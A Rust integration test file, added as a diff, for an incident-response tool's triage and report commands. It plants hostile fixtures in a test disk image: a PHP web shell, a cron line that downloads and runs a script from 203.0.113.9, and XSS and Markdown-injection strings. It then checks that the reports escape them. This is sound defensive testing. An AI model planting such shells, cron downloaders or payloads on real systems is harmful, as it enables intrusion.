@@ -1,0 +1,244 @@
+//! `triage`, `sitrep` and `report`: the story told from a case the test builds, hostile strings
+//! included, and the report's own verification instructions followed with independent tools.
+
+use std::path::Path;
+use std::process::Command;
+
+use cordon_testkit::plant::{benign_admin, malicious};
+use cordon_testkit::{CaseParent, copy_root_for_hunt, debian_root, run_cordon};
+
+use crate::{BIN, stderr, stdout};
+
+#[test]
+fn triage_of_an_image_tells_the_story_and_its_report_verifies_independently() {
+    let parent = CaseParent::new().unwrap();
+    // The image lives on other storage than the case (the case refuses to share a disk with it).
+    let image_dir = tempfile::tempdir().unwrap();
+    let root = image_dir.path().join("web01-image");
+    copy_root_for_hunt(&debian_root().unwrap(), &root).unwrap();
+    benign_admin(&root).unwrap();
+    malicious(&root).unwrap();
+    // An XSS payload in a file name and a Markdown injection in a cron line: both must stay text.
+    let xss = root.join("var/www/html/<script>alert(1)<\\script>.php");
+    std::fs::write(&xss, b"<?php system($_GET['c']); ?>").unwrap();
+    std::fs::write(
+        root.join("etc/cron.d/md"),
+        b"* * * * * root curl http://203.0.113.9/x | sh # [click](http://evil) | x\n",
+    )
+    .unwrap();
+
+    let case = parent.case_path("case");
+    let mut args = vec![
+        "triage".to_owned(),
+        case.to_str().unwrap().to_owned(),
+        "--title".into(),
+        "web01 <b>compromise</b>".into(),
+        "--root".into(),
+        root.to_str().unwrap().to_owned(),
+    ];
+    if parent.needs_allow {
+        args.push("--allow-suspect-disk".into());
+    }
+    let out = run_cordon(Path::new(BIN), None, &args, None).unwrap();
+    let text = stdout(&out);
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "findings exist, so exit 1:\n{text}\n{}",
+        stderr(&out)
+    );
+    for step in [
+        "step 1/5",
+        "step 2/5",
+        "step 3/5",
+        "step 4/5",
+        "step 5/5",
+        "what to do next",
+        "Contain:",
+    ] {
+        assert!(text.contains(step), "{step} missing:\n{text}");
+    }
+    let reports: Vec<_> = std::fs::read_dir(case.join("reports"))
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .collect();
+    let sitrep = reports
+        .iter()
+        .find(|p| p.file_name().unwrap().to_string_lossy().starts_with("sitrep-"))
+        .unwrap();
+    let prelim = reports
+        .iter()
+        .find(|p| {
+            p.file_name()
+                .unwrap()
+                .to_string_lossy()
+                .starts_with("preliminary-")
+        })
+        .unwrap();
+
+    // The sitrep: one screen for a manager.
+    let s = std::fs::read_to_string(sitrep).unwrap();
+    for part in [
+        "# Status update",
+        "## Since the last update",
+        "## Findings so far",
+        "## Next steps",
+        "## Decisions needed from management",
+        "Next update due by",
+    ] {
+        assert!(s.contains(part), "{part} missing from the sitrep:\n{s}");
+    }
+    assert!(s.contains("critical"), "{s}");
+    assert!(
+        s.contains("rebuilding the server"),
+        "critical findings ask for a rebuild decision:\n{s}"
+    );
+    assert!(
+        s.lines().count() < 60,
+        "a sitrep fits a screen: {} lines",
+        s.lines().count()
+    );
+
+    // The report, in Markdown and HTML.
+    let md = std::fs::read_to_string(prelim.join("report.md")).unwrap();
+    for part in [
+        "# Incident report",
+        "## 4. Timeline",
+        "## 6. Findings",
+        "## 8. Actions taken",
+        "## 9. Evidence and chain of custody",
+        "## Appendix: verifying this report",
+        "account.extra\\_uid0",
+        "web.shell",
+    ] {
+        assert!(md.contains(part), "{part} missing from report.md");
+    }
+    assert!(!md.contains("[click](http://evil)"), "markdown link injected");
+    assert!(!md.contains("<script>"), "raw HTML in markdown");
+    let html = std::fs::read_to_string(prelim.join("report.html")).unwrap();
+    assert!(
+        html.contains("&lt;script&gt;alert(1)"),
+        "the XSS file name is shown as text"
+    );
+    assert!(!html.contains("<script>alert"), "the XSS file name became markup");
+    assert!(!html.contains("<b>compromise</b>"), "the title became markup");
+    for external in ["src=", "href=", "http://", "https://", "@import", "url("] {
+        let hits: Vec<&str> = html
+            .lines()
+            .filter(|l| l.contains(external) && !l.contains("&"))
+            .collect();
+        assert!(
+            hits.is_empty()
+                || external.starts_with("http")
+                    && hits.iter().all(|l| !l.contains("<link") && !l.contains("<img")),
+            "report.html refers outside itself ({external}): {hits:?}"
+        );
+    }
+    assert!(
+        !html.contains("<link") && !html.contains("<img") && !html.contains("<script"),
+        "no external resources"
+    );
+
+    // Follow the appendix with independent tools: sha256sum and the shipped verifier.
+    let manifest = prelim.join("evidence.sha256");
+    let rel_manifest = manifest.strip_prefix(&case).unwrap();
+    assert!(
+        md.contains(rel_manifest.to_str().unwrap()),
+        "the report names its manifest"
+    );
+    let check = Command::new("sha256sum")
+        .arg("--strict")
+        .arg("-c")
+        .arg(rel_manifest)
+        .current_dir(&case)
+        .output()
+        .unwrap();
+    assert!(
+        check.status.success(),
+        "sha256sum -c failed: {}{}",
+        stdout(&check),
+        stderr(&check)
+    );
+    assert!(
+        stdout(&check).lines().count() > 10,
+        "the manifest lists the evidence files"
+    );
+    let verify = Command::new("python3")
+        .arg(prelim.join("verify_journal.py"))
+        .arg(&case)
+        .output()
+        .unwrap();
+    assert!(verify.status.success(), "{}{}", stdout(&verify), stderr(&verify));
+
+    // The playbook moved: collect (offline: no), hunt and notify are done.
+    let tasks = run_cordon(Path::new(BIN), Some(&case), ["task", "list"], None).unwrap();
+    assert!(stdout(&tasks).contains("[x]  5 (hunt)"), "{}", stdout(&tasks));
+    assert!(stdout(&tasks).contains("[x]  1 (notify)"), "{}", stdout(&tasks));
+}
+
+#[test]
+fn sections_written_by_people_are_journaled_and_reach_the_report() {
+    let t = crate::TestCase::new();
+    let summary = t.parent.path().join("summary.md");
+    std::fs::write(
+        &summary,
+        "The web server was entered through a weak SSH password.\n\nNo customer data left the host.",
+    )
+    .unwrap();
+    t.ok(&["report", "edit", "summary", "--from", summary.to_str().unwrap()]);
+    let out = t.run_stdin(
+        &["report", "edit", "lessons", "--from", "-"],
+        b"Use keys, not passwords. <img src=x onerror=alert(1)>",
+    );
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(
+        t.run(&["report", "edit", "gossip", "--from", summary.to_str().unwrap()])
+            .status
+            .code(),
+        Some(2)
+    );
+    let journal = t.ok(&["journal", "--kind", "report"]);
+    assert_eq!(journal.lines().count(), 2, "{journal}");
+
+    let dir = t.parent.path().join("out");
+    t.ok(&["report", "-o", dir.to_str().unwrap()]);
+    let md = std::fs::read_to_string(dir.join("report.md")).unwrap();
+    assert!(md.contains("weak SSH password"), "{md}");
+    assert!(md.contains("No customer data left the host"));
+    let html = std::fs::read_to_string(dir.join("report.html")).unwrap();
+    assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;"));
+    assert!(!html.contains("<img"));
+    assert!(
+        t.ok(&["journal", "--kind", "report.generated"])
+            .contains("report written")
+    );
+
+    // A sitrep is journaled as sent and counts as the update to management.
+    let sitrep = t.ok(&["sitrep"]);
+    assert!(sitrep.contains("Status update"));
+    let status: serde_json::Value = serde_json::from_str(&t.ok(&["status", "--json"])).unwrap();
+    assert_eq!(status["minutes_since_update"], 0);
+    let sent: Vec<serde_json::Value> = t
+        .journal()
+        .into_iter()
+        .filter(|e| e["kind"] == "sitrep")
+        .collect();
+    assert_eq!(sent.len(), 1);
+    assert_eq!(sent[0]["text"].as_str().unwrap(), sitrep);
+
+    // PDF needs a local Chromium; without one the error says so and md/html are still written.
+    let has_chromium = ["chromium", "chromium-browser", "google-chrome"].iter().any(|b| {
+        Command::new("sh")
+            .arg("-c")
+            .arg(format!("command -v {b}"))
+            .output()
+            .is_ok_and(|o| o.status.success())
+    });
+    if !has_chromium {
+        let pdf_dir = t.parent.path().join("pdf");
+        let out = t.run(&["report", "--format", "pdf", "-o", pdf_dir.to_str().unwrap()]);
+        assert_eq!(out.status.code(), Some(2));
+        assert!(stderr(&out).contains("Chromium"), "{}", stderr(&out));
+        assert!(pdf_dir.join("report.html").exists());
+    }
+}
